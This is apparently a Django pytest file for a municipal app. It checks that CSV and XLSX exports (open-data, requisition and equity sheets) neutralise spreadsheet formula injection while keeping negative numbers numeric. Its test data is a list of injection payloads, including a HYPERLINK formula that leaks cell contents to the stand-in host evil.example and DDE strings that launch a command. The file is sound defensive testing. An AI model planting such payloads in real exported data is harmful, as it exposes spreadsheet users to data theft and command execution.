"""Every CSV and XLSX export writes text that a spreadsheet would run as a formula as text
(core.spreadsheets), and keeps numbers, negative ones included, as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from committees import services
from committees.documents import requisition_csv, requisition_xlsx
from committees.models import Need
from committees.permissions import Participant
from committees.tests.factories import AllocationFactory, InstitutionFactory, NeedFactory
from contracts.tests.factories import ContractFactory
from core.spreadsheets import safe_cell
from territory.models import PublicSpace
from territory.tests.factories import ColoniaFactory, square

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-1250.50"), "-1250.50", "Agua - drenaje"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_open_data_csv_neutralises_formulas_and_keeps_negative_longitudes(client, municipality):
    geometry = square(-106.08, 28.63)
    PublicSpace.objects.create(
        municipality=municipality,
        code="AC-0001",
        name=FORMULAS[0],
        geometry=geometry,
        centroid=geometry.centroid,
        area_m2=100.0,
    )
    ContractFactory(municipality=municipality, title=FORMULAS[3])

    response = client.get(reverse("opendata:dataset_csv", kwargs={"slug": "spaces"}))
    spaces = _rows(b"".join(response.streaming_content).decode())
    response = client.get(reverse("opendata:dataset_csv", kwargs={"slug": "contracts"}))
    contracts = _rows(b"".join(response.streaming_content).decode())

    assert spaces[1][1] == "'" + FORMULAS[0]
    assert float(spaces[1][5]) < 0 and not spaces[1][5].startswith("'")  # longitude
    assert contracts[1][contracts[0].index("title")] == "'" + FORMULAS[3]


@pytest.fixture
def requisition(municipality):
    need = NeedFactory(
        municipality=municipality,
        colonia=ColoniaFactory(municipality=municipality, name=FORMULAS[2]),
        status=Need.Status.PRIORITISED,
        priority=1,
        people_affected=12,
        estimated_cost=Decimal("1500.00"),
        description=FORMULAS[0],
    )
    return services.requisition_create(
        municipality=municipality,
        participant=Participant(is_staff=True),
        institution=InstitutionFactory(municipality=municipality, name=FORMULAS[1]),
        needs=[need],
        subject="Agua",
    )


def test_requisition_csv_neutralises_formulas(requisition):
    row = _rows(requisition_csv(requisition))[1]
    assert row[1] == "'" + FORMULAS[2]  # community
    assert row[3] == "'" + FORMULAS[0]  # description
    assert row[6] == "1500.00"


def test_requisition_xlsx_stores_formulas_as_text_and_numbers_as_numbers(requisition):
    sheet = load_workbook(io.BytesIO(requisition_xlsx(requisition))).active
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    values = list(sheet.iter_rows(values_only=True))

    assert formulas == []
    assert values[1][1] == "'" + FORMULAS[1]  # institution
    assert values[5][1] == "'" + FORMULAS[2]
    assert values[5][3] == "'" + FORMULAS[0]
    assert values[5][5] == 12 and values[5][6] == 1500


def test_equity_csv_neutralises_community_names_and_keeps_negative_gaps(client, municipality):
    colonia = ColoniaFactory(municipality=municipality, name=FORMULAS[3], population=100)
    AllocationFactory(municipality=municipality, colonia=colonia, value=Decimal("5000"))

    rows = _rows(client.get(reverse("committees:equity_csv")).content.decode())

    row = next(r for r in rows[1:] if r[0].endswith(FORMULAS[3]))
    assert row[0] == "'" + FORMULAS[3]
    gap = row[rows[0].index("gap_mxn")]
    assert gap == "-5000.00"
